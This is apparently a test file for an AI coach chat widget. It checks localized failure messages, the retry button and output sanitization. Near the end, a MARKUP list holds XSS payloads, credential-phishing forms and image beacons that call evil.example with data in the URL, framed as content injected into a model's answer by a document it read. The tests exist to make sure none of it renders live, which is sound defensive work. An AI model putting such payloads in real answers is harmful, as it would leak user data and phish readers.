import type { ServerResponse } from 'node:http';
import { fireEvent, screen, waitFor, within } from '@testing-library/dom';
import { userEvent } from '@testing-library/user-event';
import type { ChatFallbackReason, ChatWriter } from '@vitae/contract/chat';
import { defineRemote } from '@vitae/remote-kit/define-remote';
import { createFakePlatform, type RenderedRemote, renderRemote } from '@vitae/remote-kit/testing';
import manifest from '../../remote.json';
import { messages } from '../messages.ts';
import { screens } from '../screens.ts';
import { answerOf, begun, type ChatApi, SESSION, startChatApi, stream } from '../testing/chat-api.ts';

type Case = readonly [reason: ChatFallbackReason, seconds: number | null, why: string, whatToDo: string];

const AGAIN = 'To ask the AI service once more, press “Answer again”.';
const OPERATORS = 'Only those who run this site can mend that. The coach goes on answering.';
const AGAIN_IN_ARABIC = 'لسؤال خدمة الذكاء الاصطناعي مرة أخرى، اضغط «الإجابة مرة أخرى».';
const OPERATORS_IN_ARABIC = 'لا يستطيع إصلاح ذلك إلا القائمون على الموقع، ويواصل المدرب الإجابة.';

/** What the API says of each failure; `api/src/chat/model` has which failure is said how. */
const ENGLISH: readonly Case[] = [
  ['slow', null, 'The AI service took too long to answer', AGAIN],
  ['interrupted', null, 'The AI service broke off before its answer was complete', AGAIN],
  ['key_refused', null, 'The AI service did not accept its access key', OPERATORS],
  ['unknown_model', null, 'The AI service does not offer the configured model', OPERATORS],
  ['busy', 7, 'The AI service is busy', 'To ask it once more, press “Answer again” in 7 seconds.'],
  ['busy', 3_600, 'The AI service is busy', 'To ask it once more, press “Answer again” in 60 minutes.'],
  ['busy', null, 'The AI service is busy', AGAIN],
  ['broken', null, 'The AI service reported an error', AGAIN],
  ['unreachable', null, 'The AI service could not be reached', AGAIN],
  ['unreadable', null, 'The AI service sent an answer that could not be read', AGAIN],
  ['declined', null, 'The AI service declined to answer', 'To ask the AI service, put the question in other words.'],
];
const ARABIC: readonly Case[] = [
  ['slow', null, 'تأخرت خدمة الذكاء الاصطناعي في الرد', AGAIN_IN_ARABIC],
  ['interrupted', null, 'انقطعت خدمة الذكاء الاصطناعي قبل اكتمال ردها', AGAIN_IN_ARABIC],
  ['key_refused', null, 'لم تقبل خدمة الذكاء الاصطناعي مفتاح الوصول', OPERATORS_IN_ARABIC],
  ['unknown_model', null, 'لا توفر خدمة الذكاء الاصطناعي النموذج المحدد', OPERATORS_IN_ARABIC],
  ['busy', 7, 'خدمة الذكاء الاصطناعي مشغولة', 'لسؤالها مجددًا اضغط «الإجابة مرة أخرى» بعد 7 ثوانٍ.'],
  ['busy', 3_600, 'خدمة الذكاء الاصطناعي مشغولة', 'لسؤالها مجددًا اضغط «الإجابة مرة أخرى» بعد 60 دقيقة.'],
  ['busy', null, 'خدمة الذكاء الاصطناعي مشغولة', AGAIN_IN_ARABIC],
  ['broken', null, 'أبلغت خدمة الذكاء الاصطناعي عن خطأ', AGAIN_IN_ARABIC],
  ['unreachable', null, 'تعذر الوصول إلى خدمة الذكاء الاصطناعي', AGAIN_IN_ARABIC],
  ['unreadable', null, 'أرسلت خدمة الذكاء الاصطناعي ردًا تتعذر قراءته', AGAIN_IN_ARABIC],
  ['declined', null, 'امتنعت خدمة الذكاء الاصطناعي عن الرد', 'لسؤال خدمة الذكاء الاصطناعي، صغ السؤال بكلمات أخرى.'],
];
const WORDS = {
  en: { assistant: 'Assistant', question: 'Your question', send: 'Send', again: 'Answer again' },
  ar: { assistant: 'المساعد', question: 'سؤالك', send: 'إرسال', again: 'الإجابة مرة أخرى' },
} as const;

const user = userEvent.setup();
let api: ChatApi;
let remote: RenderedRemote;

beforeEach(async () => {
  api = await startChatApi();
});
afterEach(async () => {
  await remote.unmount();
  await api.close();
  localStorage.clear();
});

async function openTalk(language: 'en' | 'ar') {
  const definition = defineRemote({ manifest, messages, routes: screens });
  remote = await renderRemote(definition, '/ai-chat', createFakePlatform({ baseUrl: api.url, language }));
  const words = WORDS[language];
  const answers = () => screen.getAllByRole('article', { name: words.assistant });
  return {
    words,
    answers,
    /** Asks; the answer is written by the test. */
    async ask(text: string): Promise<ServerResponse> {
      const answering = new Promise<ServerResponse>((resolve) => {
        api.on('POST /api/chat/', (request, response) => {
          stream(response, begun(request));
          resolve(response);
        });
      });
      fireEvent.input(await screen.findByRole('textbox', { name: words.question }), { target: { value: text } });
      await user.click(screen.getByRole('button', { name: words.send }));
      return answering;
    },
  };
}

function finish(answering: ServerResponse, number: number, text: string, writer: ChatWriter): void {
  const id = `00000000-0000-4000-8000-${String(number).padStart(12, '0')}`;
  stream(
    answering,
    { event: 'text', text },
    { event: 'done', session: SESSION, message: answerOf(id, text, { writer }) },
  );
  answering.end();
}

test.each([
  ['en', ENGLISH],
  ['ar', ARABIC],
] as const)(
  'in %s each failure of the model is told with what to do, and nothing of its half answer stays',
  async (language, cases) => {
    const { words, answers, ask } = await openTalk(language);
    for (const [index, [reason, seconds, why, whatToDo]] of cases.entries()) {
      const answering = await ask(`Question ${index}`);
      stream(answering, { event: 'text', text: 'Half of an ' });
      expect(await screen.findByText('Half of an')).toBeVisible();
      stream(answering, { event: 'restarted' });
      await waitFor(() => expect(screen.queryByText('Half of an')).toBeNull());
      finish(answering, index, `Answer ${index}.`, { name: 'builtin', fallback_reason: reason, retry_after: seconds });
      await waitFor(() => expect(answers().at(-1)).toHaveTextContent(whatToDo));
      const last = answers().at(-1)!;
      expect(last).toHaveTextContent(why);
      expect(last).toHaveTextContent(`Answer ${index}.`);
      expect(within(last).getByRole('button', { name: words.again })).toBeEnabled();
      expect(answers()).toHaveLength(index + 1);
      // What can be done is said of the last answer only: it is the one that can be asked for again.
      expect(screen.getAllByText(whatToDo, { exact: false })).toHaveLength(1);
    }
  },
);

test('“Answer again” asks the model the same question, and its answer takes the place of the coach’s', async () => {
  const { words, answers, ask } = await openTalk('en');
  finish(await ask('How long?'), 1, 'Of the coach.', { name: 'builtin', fallback_reason: 'busy', retry_after: null });
  await user.click(await screen.findByRole('button', { name: words.again }));
  await waitFor(() => expect(api.requests.filter(({ path }) => path === '/api/chat/')).toHaveLength(2));
  const [first, second] = api.requests.filter(({ path }) => path === '/api/chat/').map(({ body }) => JSON.parse(body));
  expect(second).toMatchObject({ text: 'How long?', message_id: first.message_id });
  expect(answers()).toHaveLength(1);
});

/** What an answer may hold when a document that was read has put it there. */
const MARKUP = [
  '[click me](https://evil.example/?data=1)',
  '[click me](javascript:alert(1))',
  '[click me](JaVaScRiPt:alert(1))',
  '[click me](data:text/html;base64,PHNjcmlwdD4=)',
  '[click me](//evil.example)',
  '[click me](/account)',
  '[click me][1]\n\n[1]: https://evil.example',
  '<https://evil.example/auto>',
  'https://evil.example/bare',
  'www.evil.example',
  'mail@evil.example',
  '![x](https://evil.example/steal?data=1)',
  '![x][2]\n\n[2]: https://evil.example/pixel.gif',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '<script>alert(1)</script>',
  '<img src=x onerror="alert(1)">',
  '<a href="https://evil.example">sign in again</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<svg onload=alert(1)><style>*{display:none}</style></svg>',
  '<div style="position:fixed;inset:0" onclick="alert(1)">x</div>',
  '&#60;img src=x onerror=alert(1)&#62;',
  '| a |\n| --- |\n| [x](https://evil.example) |',
  '- [x] <b onmouseover=alert(1)>bold</b>',
];

test('whatever an answer holds, no link of it leads anywhere, and no markup of it lives', async () => {
  const { answers, ask } = await openTalk('en');
  const writer: ChatWriter = { name: 'a-model', fallback_reason: null, retry_after: null };
  for (const [index, markup] of MARKUP.entries()) {
    finish(await ask(`Question ${index}`), index, `Before. ${markup}\n\n${markup}\n\n**After ${index}.**`, writer);
    // Bold: the Markdown has been read.
    const end = await screen.findByText(`After ${index}.`);
    expect(end.tagName).toBe('STRONG');
    const body = answers().at(-1)!.querySelector('[dir="auto"]')!;
    const live =
      'a, area, img, picture, script, iframe, form, input, button, svg, style, object, embed, video, [href], [src]';
    expect([...body.querySelectorAll(live)].map(({ outerHTML }) => outerHTML)).toEqual([]);
    const handlers = [...body.querySelectorAll('*')].flatMap((each) => each.getAttributeNames());
    expect(handlers.filter((name) => name.startsWith('on') || name === 'style')).toEqual([]);
  }
});
